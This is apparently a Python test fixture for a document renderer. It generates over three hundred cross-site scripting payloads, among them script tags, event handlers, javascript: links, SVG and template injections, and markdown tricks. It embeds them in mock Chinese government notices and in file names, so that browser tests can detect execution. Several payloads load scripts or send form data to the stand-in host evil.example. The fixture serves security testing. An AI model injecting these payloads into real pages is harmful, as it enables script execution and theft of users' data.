"""R-01: three hundred ways to make a page run something, as they may stand in a document, a name or a question.

Each calls alert, which the browser tests see as a dialog, or breaks the content policy, which they see as a report.
"""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

EVIL = "//evil.example"
BASES = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<img src=//evil.example/p.png>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>点此</a>", "<a href=//evil.example>点此</a>", "[点此](javascript:alert(1))", "![图](//evil.example/p.png)", "[x]: javascript:alert(1)",
    '![x](x" onerror="alert(1))', "<javascript:alert(1)>", "<form id=content action=//evil.example><input name=innerHTML><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>", "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "$$\\href{javascript:alert(1)}{x}$$", "<!--<img src='--><img src=x onerror=alert(1)>",
    "<a id=source><a id=source name=content href=x>", "<div style=background:url(//evil.example/p.png)>x</div>", "<p onmouseover=alert(1) style=position:fixed;inset:0>x</p>",
)  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in text)


WRAPS = (
    lambda t: t,
    lambda t: '">' + t,
    lambda t: "'>" + t,
    lambda t: "</title></textarea></style></script>-->" + t,
    lambda t: "<x y='" + t.replace("script", "ScRiPt").replace("onerror", "ONERROR"),
    lambda t: _entities(t),
    lambda t: t.replace("<", "\uff1c").replace(">", "\uff1e") + quote(t),
)
PAYLOADS = tuple(wrap(base) for base, wrap in product(BASES, WRAPS))
assert len(PAYLOADS) >= 300 and len(set(PAYLOADS)) >= 300


def documents() -> dict[str, str]:
    """Give documents that hold every payload as heading, task, unit, term, list entry and table cell; their names are payloads, too."""
    names = ("<img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "${alert(1)}")
    parts = [PAYLOADS[at::3] for at in range(3)]
    return {f"{name.replace('/', '')}.txt": _document(title, part) for name, title, part in zip(names, PAYLOADS[:3], parts, strict=True)}


def _document(title: str, payloads: tuple[str, ...]) -> str:
    lines = [f"关于印发《{title}方案》的通知", "", f"一、任务{payloads[1]}"]
    for number, text in enumerate(payloads, 1):
        lines.append(f"{number}.清理{text}杂物。2024年6月底前,完成{text}。(牵头单位:区{text}局;配合单位:{text})")
    lines += ["二、定义", f"本方案所称楼道杂物,是指{payloads[0]}和纸箱。", "三、范围", "包括以下场所:", f"(一){payloads[2]};", "(二)学校。"]
    return "\n".join(lines) + "\n"
